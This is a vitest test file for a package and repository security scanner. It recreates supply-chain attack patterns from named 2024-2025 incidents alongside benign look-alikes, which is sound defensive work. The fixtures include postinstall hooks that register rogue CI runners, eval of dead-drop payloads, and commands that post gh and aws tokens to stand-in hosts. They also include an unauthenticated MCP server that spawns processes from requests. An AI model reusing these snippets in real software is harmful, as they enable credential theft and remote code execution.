import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { analyzeMcpServer } from './mcp-servers/analyze-mcp-server.js';
import { analyzePackage } from './packages/analyze-package.js';
import { analyzeRepository } from './repositories/analyze-repository.js';
import { shellSecretSendFinding } from './text/shell-secret-send.js';

// Issue 24, round r16: classes of 2024-2025 incidents (Shai-Hulud 2.0, PhantomRaven, GlassWorm, Scavenger,
// toptal/picasso, MCP Inspector), each with a positive and a benign look-alike.
const pkg = async (files: Record<string, string>): Promise<AgentResult> => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const mcp = async (files: Record<string, string>): Promise<AgentResult> => analyzeMcpServer({ dir: await dirWith(files), track: 'mcp_servers', bundleHash: null });
const repo = async (files: Record<string, string>): Promise<AgentResult> => analyzeRepository({ dir: await dirWith(files), track: 'repositories', bundleHash: null });
const titles = (r: AgentResult) => r.findings.map((f: AgentFinding) => `${f.severity} ${f.title}`);
const manifest = (extra: Record<string, unknown>) => JSON.stringify({ name: 'some-tool', version: '1.0.0', ...extra }, null, 2);

describe('CI takeover from package code (Shai-Hulud 2.0)', () => {
  it('registering a self-hosted runner at install is CRIT', async () => {
    const code = `const { execSync } = require('child_process');\nconst t = process.argv[2];\nexecSync('./config.sh --url https://github.com/o/r --unattended --token ' + t + ' --name SHA1HULUD', { cwd: '/tmp/r' });\n`;
    const r = await pkg({ 'package.json': manifest({ scripts: { postinstall: 'node env.js' } }), 'env.js': code });
    expect(titles(r)).toContain('CRIT Registers a self-hosted GitHub Actions runner');
  });
  it('a workflow written and pushed is reported; a scaffolder that writes one and leaves the push to the user is not', async () => {
    const bad = `const fs = require('fs');\nconst cp = require('child_process');\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.writeFileSync('.github/workflows/discussion.yaml', 'on: discussion');\ncp.execSync('git add .github && git commit -m x && git push');\n`;
    expect(titles(await pkg({ 'package.json': manifest({ main: 'index.js' }), 'index.js': bad }))).toContain('HIGH Writes a GitHub Actions workflow into a repository and pushes it');
    const good = `const fs = require('fs');\nconst cp = require('child_process');\nfs.writeFileSync('app/.github/workflows/ci.yml', 'on: push');\ncp.execSync('git init && git add -A && git commit -m init');\nconsole.log('now run git push');\n`;
    expect(titles(await pkg({ 'package.json': manifest({ main: 'index.js' }), 'index.js': good })).filter((t) => /workflow|runner/.test(t))).toEqual([]);
  });
});

describe('an install step that fetches another JavaScript runtime and runs a package file with it (Shai-Hulud 2.0)', () => {
  const title = 'HIGH Install step fetches another JavaScript runtime (Bun, Deno) and runs a package file with it';
  it('npm install -g bun then bun on the package\'s file, or npx bun@… in the lifecycle command', async () => {
    const setup = `const { execSync, spawnSync } = require('child_process');\nconst path = require('path');\ntry { execSync('bun --version'); } catch { execSync('npm install -g bun'); }\nspawnSync('bun', [path.join(__dirname, 'payload.js')]);\n`;
    expect(titles(await pkg({ 'package.json': manifest({ scripts: { preinstall: 'node setup.js' } }), 'setup.js': setup, 'payload.js': 'module.exports = 1;\n' }))).toContain(title);
    expect(titles(await pkg({ 'package.json': manifest({ scripts: { preinstall: 'npx -y bun@1.2.0 ./payload.js' } }), 'payload.js': 'module.exports = 1;\n' }))).toContain(title);
  });
  it('a message telling the user how to install Bun is not a fetch', async () => {
    const check = `const { execSync } = require('child_process');\ntry { execSync('bun --version'); } catch { console.warn('Install Bun: curl -fsSL https://bun.sh/install | bash, then run bun cli.js'); }\n`;
    expect(titles(await pkg({ 'package.json': manifest({ scripts: { postinstall: 'node check.js' } }), 'check.js': check, 'cli.js': 'console.log(1);\n' }))).not.toContain(title);
  });
});

describe('dead drops fed to eval (GlassWorm)', () => {
  it('a calendar event or a chain memo read, and code received or decoded evaluated, is CRIT', async () => {
    const code = `const https = require('https');\nconst get = (u) => new Promise((ok) => https.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => ok(b)); }));\n(async () => {\n  const page = await get('https://calendar.app.google/abc');\n  const next = Buffer.from(/<title>(.*)<\\/title>/.exec(page)[1], 'base64').toString();\n  new Function(await get(next))();\n})();\n`;
    expect(titles(await pkg({ 'package.json': manifest({ main: 'index.js' }), 'index.js': code }))).toContain('CRIT Reads a dead drop (chain transaction, calendar event, paste) and evaluates code built at run time');
  });
  it('reading memos and compiling its own templates is not a dead drop', async () => {
    const code = `async function memos(rpc, a) { const r = await fetch(rpc, { method: 'POST', body: JSON.stringify({ method: 'getSignaturesForAddress', params: [a] }) }); return (await r.json()).result; }\nfunction compile(t) { return new Function('m', 'return \`' + t + '\`'); }\nmodule.exports = { memos, compile };\n`;
    expect(titles(await pkg({ 'package.json': manifest({ main: 'index.js' }), 'index.js': code })).filter((t) => /dead drop/.test(t))).toEqual([]);
  });
});

describe('install-time load of a shipped native library (Scavenger, num2words)', () => {
  const setup = (body: string) => `import ctypes, os\nfrom setuptools import setup\n${body}\nsetup(name="demo", version="1.0", packages=["demo"])\n`;
  it('ctypes loading the package\'s own DLL from setup.py is CRIT', async () => {
    const r = await pkg({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n', 'demo/__init__.py': '', 'demo/helper.dll': 'MZ', 'setup.py': setup('lib = ctypes.WinDLL(os.path.join(os.path.dirname(__file__), "demo", "helper.dll"))\nlib.main()') });
    expect(titles(r)).toContain('CRIT Install-time code loads a native library shipped in the package');
  });
  it('probing a system library by name is not', async () => {
    const r = await pkg({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n', 'demo/__init__.py': '', 'demo/_fast.so': 'x', 'setup.py': setup('import ctypes.util\nname = ctypes.util.find_library("gomp")\nif name:\n    ctypes.CDLL(name)') });
    expect(titles(r).filter((t) => /native library/.test(t))).toEqual([]);
  });
});

describe('CLI-stored tokens sent out (toptal/picasso)', () => {
  it('gh, npm, gcloud and aws tokens read by command and posted elsewhere are credentials', async () => {
    const code = `const cp = require('child_process');\nconst read = (c) => cp.execSync(c).toString();\nconst body = JSON.stringify({ a: read('gh auth token'), b: read('aws configure export-credentials --format env') });\nrequire('https').request({ hostname: 'collector.example', method: 'POST' }).end(body);\n`;
    expect(titles(await pkg({ 'package.json': manifest({ scripts: { postinstall: 'node s.js' } }), 's.js': code }))).toContain('CRIT Credentials or the environment flow to a network call');
  });
  it('a lifecycle command posting $(gh auth token) is CRIT; the same token to GitHub\'s API is its use', async () => {
    expect(shellSecretSendFinding('package.json', 'curl -s -d "$(gh auth token)" https://hook.example/t', 'preinstall script', true)?.severity).toBe('CRIT');
    expect(shellSecretSendFinding('package.json', 'curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" https://storage.googleapis.com/b', 'preinstall script', true)).toBeNull();
    const code = `const { execFileSync } = require('child_process');\nconst t = execFileSync('gh', ['auth', 'token']).toString().trim();\nfetch('https://api.github.com/user', { headers: { Authorization: 'Bearer ' + t } });\n`;
    expect(titles(await pkg({ 'package.json': manifest({ bin: { x: 'cli.js' } }), 'cli.js': code })).filter((t) => /^(CRIT|HIGH|MED)/.test(t))).toEqual([]);
  });
});

describe('git URL dependencies on foreign hosts (PhantomRaven)', () => {
  it('git+http and git+https on a host that is neither a code host nor the project\'s own are HIGH; a GitHub fork and the own host are not', async () => {
    const bad = await repo({ 'README.md': '# x\n', 'package.json': JSON.stringify({ name: 'x', private: true, dependencies: { a: 'git+http://git.example.net/a.git' } }, null, 2) });
    expect(titles(bad)).toContain('HIGH Dependency fetched from a git server on a foreign host');
    const good = await repo({ 'README.md': '# x\n', 'package.json': JSON.stringify({ name: 'x', private: true, repository: 'git+https://git.corp.example/web/x.git', dependencies: { a: 'git+https://git.corp.example/web/a.git', b: 'git+https://github.com/o/b.git#fix' } }, null, 2) });
    expect(titles(good).filter((t) => /Dependency/.test(t))).toEqual([]);
  });
});

describe('unauthenticated MCP HTTP command endpoints (CVE-2025-49596 class)', () => {
  const proxy = (auth: string) => `import express from 'express';\nimport { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';\nconst app = express();\n${auth}app.get('/sse', async (req, res) => {\n  const command = req.query.command;\n  const t = new StdioClientTransport({ command, args: [] });\n  await t.start();\n  res.end();\n});\napp.listen(6277, '0.0.0.0');\n`;
  it('0.0.0.0, no credential, a process from the query: CRIT', async () => {
    expect(titles(await mcp({ 'package.json': '{"name":"p","version":"1.0.0"}', 'server.js': proxy('') }))).toContain('CRIT server listens on all interfaces without authentication and starts a process from the request');
  });
  it('the same behind a bearer token check is not reported', async () => {
    const auth = `app.use((req, res, next) => (req.headers.authorization === 'Bearer ' + process.env.TOKEN ? next() : res.status(401).end()));\n`;
    expect(titles(await mcp({ 'package.json': '{"name":"p","version":"1.0.0"}', 'server.js': proxy(auth) })).filter((t) => /all interfaces/.test(t))).toEqual([]);
  });
});
